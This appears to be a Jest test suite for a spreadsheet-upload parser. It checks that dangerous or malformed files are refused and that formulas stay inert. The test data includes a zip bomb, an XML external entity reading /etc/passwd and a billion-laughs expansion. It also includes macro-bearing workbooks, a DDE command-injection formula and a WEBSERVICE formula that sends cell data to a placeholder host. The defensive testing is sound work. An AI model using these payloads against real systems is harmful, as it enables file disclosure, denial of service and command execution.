import { describe, expect, it } from '@jest/globals';
import { utils, write } from '@e965/xlsx';
import { strToU8, zipSync } from 'fflate';
import { writeXlsx, type WriteOptions } from 'hucre/xlsx';
import iconv from 'iconv-lite';
import { compoundFiles } from './compound-file.js';
import { readWorkbook } from './read-workbook.js';
import { sheetLimits, UnreadableSpreadsheet } from './sheet.js';

type Bytes = Uint8Array | Promise<Uint8Array>;

const text = (words: string) => strToU8(words);
const xlsx = (rows: (string | number | null)[][], more: Partial<WriteOptions> = {}) =>
  writeXlsx({ sheets: [{ name: 'a', rows }], stringMode: 'inline', ...more });
const rowsOf = (count: number, row: (string | null)[]) => Array.from({ length: count }, () => row);

const types = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
const xmlns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
/** The smallest .xlsx whose one sheet says what is given, with other parts beside or instead. */
function workbook(sheetData: string, others: Readonly<Record<string, Uint8Array>> = {}): Uint8Array {
  const relation = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const relations = (target: string, type: string) =>
    text(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${relation}/${type}" Target="${target}"/></Relationships>`);
  return zipSync({
    '[Content_Types].xml': text(types),
    '_rels/.rels': relations('xl/workbook.xml', 'officeDocument'),
    'xl/workbook.xml': text(`<workbook ${xmlns} xmlns:r="${relation}"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>`),
    'xl/_rels/workbook.xml.rels': relations('worksheets/sheet1.xml', 'worksheet'),
    'xl/worksheets/sheet1.xml': text(`<?xml version="1.0"?><worksheet ${xmlns}><sheetData>${sheetData}</sheetData></worksheet>`),
    ...others,
  });
}

const oneCell = '<row r="1"><c r="A1" t="inlineStr"><is><t>甲</t></is></c></row>';
const inPart = (xml: string) => ({ 'xl/worksheets/sheet1.xml': text(xml) });
const lol = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${String(at + 1)} "${`&l${String(at)};`.repeat(10)}">`);

function xls(change: (bytes: Uint8Array) => Uint8Array = (bytes) => bytes, rows: unknown[][] = [['甲']]) {
  const book = utils.book_new();
  utils.book_append_sheet(book, utils.aoa_to_sheet(rows), 'a');
  return change(new Uint8Array(write(book, { type: 'array', bookType: 'biff8' }) as ArrayBuffer));
}

function compound(...names: string[]): Uint8Array {
  const file = compoundFiles.utils.cfb_new();
  for (const name of names) compoundFiles.utils.cfb_add(file, name, Buffer.alloc(5000, 7));
  return new Uint8Array(compoundFiles.write(file, { type: 'buffer' }));
}

/** Every number of the allocation table of an .xls leads back to its first sector. */
function inCircles(bytes: Uint8Array): Uint8Array {
  const copy = Uint8Array.from(bytes);
  const view = new DataView(copy.buffer);
  const table = (view.getUint32(0x4c, true) + 1) * 512;
  for (let at = table; at < table + 512; at += 4) view.setUint32(at, 0, true);
  return copy;
}

/** Writes another number wherever a record of the ZIP begins (APPNOTE.TXT 4.3.12, 4.3.16). */
function rewrite(file: Uint8Array, signature: number, offset: number, value: number): Uint8Array {
  const copy = Uint8Array.from(file);
  const view = new DataView(copy.buffer);
  for (let at = 0; at + 4 <= copy.length; at += 1) {
    if (view.getUint32(at, true) === signature) view.setUint32(at + offset, value, true);
  }
  return copy;
}
const directoryEntry = 0x02014b50;
const endOfDirectory = 0x06054b50;
/** A sound sheet in a format other programs write. */
function otherFormat(bookType: 'xlsb' | 'ods'): Uint8Array {
  const book = utils.book_new();
  utils.book_append_sheet(book, utils.aoa_to_sheet([['甲', '乙']]), 'a');
  return new Uint8Array(write(book, { type: 'array', bookType }) as ArrayBuffer);
}

const sound = () => xlsx([['甲', '乙']]);
const spoilt = async (spoil: (bytes: Uint8Array) => Uint8Array) => spoil(await sound());

const refused: readonly [string, () => Bytes, UnreadableSpreadsheet['code']][] = [
  ['nothing', () => new Uint8Array(), 'sheet-empty'],
  ['a PDF called .xlsx', () => text('%PDF-1.7\n1 0 obj'), 'sheet-wrong-type'],
  ['a web page called .xls', () => text('<html><table><tr><td>甲</td></tr></table>'), 'sheet-wrong-type'],
  ['an XML table of 2003', () => text('<?xml version="1.0"?><Workbook/>'), 'sheet-wrong-type'],
  ['a picture', () => Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a]), 'sheet-wrong-type'],
  ['a program', () => text('MZ\u0090\u0000'), 'sheet-wrong-type'],
  ['an archive of another kind', () => text('Rar!\u001a\u0007'), 'sheet-wrong-type'],
  ['rich text', () => text('{\\rtf1\\ansi}'), 'sheet-wrong-type'],
  ['a ZIP of something else', () => zipSync({ 'a.txt': text('甲') }), 'sheet-wrong-type'],
  ['a binary workbook (.xlsb)', () => otherFormat('xlsb'), 'sheet-wrong-type'],
  ['an OpenDocument sheet (.ods)', () => otherFormat('ods'), 'sheet-wrong-type'],
  ['a ZIP in a ZIP', async () => zipSync({ 'a.xlsx': await sound() }), 'sheet-wrong-type'],
  ['a text document', () => zipSync({ '[Content_Types].xml': text(types), 'word/document.xml': text('<a/>') }), 'sheet-wrong-type'],
  ['an old text document', () => compound('/WordDocument'), 'sheet-wrong-type'],
  ['no ZIP but for its first bytes', () => text('PK\u0003\u0004 and nothing else'), 'sheet-damaged'],
  ['cut off half-way', () => spoilt((bytes) => bytes.subarray(0, bytes.length / 2)), 'sheet-damaged'],
  ['an .xls cut off half-way', () => xls((bytes) => bytes.subarray(0, 700)), 'sheet-damaged'],
  ['an .xls in circles', () => xls(inCircles), 'sheet-damaged'],
  ['an .xls of zeros', () => xls((bytes) => bytes.map((byte, at) => (at < 8 ? byte : 0))), 'sheet-damaged'],
  ['XML that does not end', () => workbook('', inPart(`<worksheet ${xmlns}><sheetData><row r="1"><c r="A1"`)), 'sheet-damaged'],
  ['XML in UTF-16', () => workbook('', { 'xl/worksheets/sheet1.xml': iconv.encode('<worksheet/>', 'utf16') }), 'sheet-damaged'],
  ['a ZIP bomb', () => workbook(`<row><c t="str"><v>${' '.repeat(70_000_000)}</v></c></row>`), 'sheet-unpacks-too-large'],
  ['a bomb that lies about its size', () => spoilt((bytes) => rewrite(bytes, directoryEntry, 24, 2 ** 31)), 'sheet-unpacks-too-large'],
  ['silent about its size', () => spoilt((bytes) => rewrite(bytes, directoryEntry, 24, 0)), 'sheet-unpacks-too-large'],
  ['described in ZIP64', () => spoilt((bytes) => rewrite(bytes, endOfDirectory, 12, 0xffffffff)), 'sheet-unpacks-too-large'],
  ['three thousand parts', () => workbook(oneCell, Object.fromEntries(Array.from({ length: 3000 }, (_, at) => [`xl/a${String(at)}.xml`, text('<a/>')]))), 'sheet-unpacks-too-large'],
  ['an external entity', () => workbook('', inPart(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet ${xmlns}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row></sheetData></worksheet>`)), 'sheet-with-entities'],
  ['a billion laughs', () => workbook(oneCell, { 'xl/sharedStrings.xml': text(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "lol">${lol.join('')}]><sst ${xmlns}><si><t>&l9;</t></si></sst>`) }), 'sheet-with-entities'],
  ['a document type elsewhere', () => workbook(oneCell, { 'docProps/core.xml': text('<!DOCTYPE a SYSTEM "http://example.test/a.dtd"><a/>') }), 'sheet-with-entities'],
  ['macros', () => workbook(oneCell, { 'xl/vbaProject.bin': text('x') }), 'sheet-with-macros'],
  ['macros of 1992', () => workbook(oneCell, { 'xl/macrosheets/sheet1.xml': text('<a/>') }), 'sheet-with-macros'],
  ['an .xls with macros', () => compound('/Workbook', '/_VBA_PROJECT_CUR/VBA/dir'), 'sheet-with-macros'],
  ['a password', () => xlsx([['甲']], { encryption: { password: 'x', spinCount: 1000 } }), 'sheet-encrypted'],
  ['200,000 rows', () => workbook('<row><c t="str"><v>甲</v></c></row>'.repeat(200_000)), 'sheet-too-many-rows'],
  ['200,000 rows of text', () => text('甲,乙\n'.repeat(200_000)), 'sheet-too-many-rows'],
  ['an .xls of 30,000 rows', () => xls(undefined, rowsOf(30_000, ['甲'])), 'sheet-too-many-rows'],
  ['a cell in the last row', () => workbook(`${oneCell}<row r="1048576"><c r="A1048576"><v>1</v></c></row>`), 'sheet-too-many-rows'],
  ['16,384 columns', () => xlsx([Array.from({ length: 16_384 }, () => '甲')]), 'sheet-too-many-columns'],
  ['a cell in the last column', () => workbook(`${oneCell}<row r="2"><c r="XFD2"><v>1</v></c></row>`), 'sheet-too-many-columns'],
  ['one line of 20,000 cells', () => text(`甲${',乙'.repeat(20_000)}`), 'sheet-too-many-columns'],
  ['a cell of a million characters', () => text(`甲,"${'乙'.repeat(1_000_000)}"\n`), 'sheet-cell-too-long'],
  ['a quotation that never ends', () => text(`甲,"${'乙,丙\n'.repeat(20_000)}`), 'sheet-cell-too-long'],
  ['one long text in many cells', () => workbook(Array.from({ length: 4000 }, (_, at) => `<row r="${String(at + 1)}"><c r="A${String(at + 1)}" t="s"><v>0</v></c></row>`).join(''), { 'xl/sharedStrings.xml': text(`<sst ${xmlns}><si><t>${'甲'.repeat(30_000)}</t></si></sst>`), 'xl/_rels/workbook.xml.rels': text('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>') }), 'sheet-too-many-cells'],
  ['NUL bytes', () => text('甲,乙\n\u0000\u0000,1\n'), 'sheet-not-text'],
  ['control characters', () => text('甲,乙\n\u0007\u001b[2J,1\n'), 'sheet-not-text'],
  ['UTF-16 with its mark', () => iconv.encode('甲,乙\n', 'utf16'), 'sheet-not-text'],
  ['UTF-16 without it', () => iconv.encode('a,甲\n', 'utf16-be', { addBOM: false }), 'sheet-not-text'],
  ['Big5', () => iconv.encode('項目名稱,投資方名稱,聯繫電話\n儲能專案,草原儲能公司,無\n', 'big5'), 'sheet-encoding-unknown'],
  ['Shift JIS', () => iconv.encode('プロジェクト,ひらがな,カタカナ\n', 'shift_jis'), 'sheet-encoding-unknown'],
  ['UTF-8 with half a character', () => Uint8Array.from([...text('项目名称,甲\n'), 0xe9, 0xa1]), 'sheet-encoding-unknown'],
  ['lone surrogates in UTF-8', () => Uint8Array.from([...text('项目,甲\n'), 0xed, 0xa0, 0x80, 0x0a]), 'sheet-encoding-unknown'],
];

const readHere = (bytes: Uint8Array) => readWorkbook(bytes, sheetLimits);

// In this process, for the sake of speed; read-sheets.spec.ts reads in a process apart.
describe('a file from outside', () => {
  it.each(refused)('is refused where it is %s', async (_, file, code) => {
    await expect(readHere(await file())).rejects.toMatchObject({ name: 'UnreadableSpreadsheet', code });
  });

  it('is refused in words of both languages that quote nothing of it', () => {
    const error = new UnreadableSpreadsheet('sheet-too-many-rows', { max: '20000' });
    expect(error.said('zh')).toBe('该表格超过20000行，请分成几个文件上传。');
    expect(error.said('en')).toContain('more than 20000 rows');
  });
});

describe('what looks hostile and is not', () => {
  it('has formulas as their last values, and none is worked out', async () => {
    const sheet = '<row r="1"><c r="A1"><f>WEBSERVICE("http://example.test/"&amp;B1)</f></c><c r="B1"><f>1+1</f><v>2</v></c></row>';
    expect((await readHere(workbook(sheet)))[0]?.rows).toEqual([[null, 2]]);
    expect((await readHere(text("=cmd|' /C calc'!A0,@SUM(1)\n")))[0]?.rows).toEqual([
      ["=cmd|' /C calc'!A0", '@SUM(1)'],
    ]);
  });

  it('has its links to other books left alone', async () => {
    const link = '<externalLink/>';
    const bytes = workbook(oneCell, { 'xl/externalLinks/externalLink1.xml': text(link) });
    expect((await readHere(bytes))[0]?.rows).toEqual([['甲']]);
  });

  it('has half a surrogate pair replaced', async () => {
    const sheet = '<row r="1"><c r="A1" t="inlineStr"><is><t>甲&#xD800;乙</t></is></c></row>';
    const [[cell]] = (await readHere(workbook(sheet)))[0]?.rows as [[string]];
    expect(cell).toBe('甲\uFFFD乙');
  });

  it('may be formatted to its last row and column', async () => {
    const far = '<row r="1048576" s="1"><c r="XFD1048576" s="1"/></row>';
    expect((await readHere(workbook(oneCell + far)))[0]?.rows).toEqual([['甲']]);
  });
});
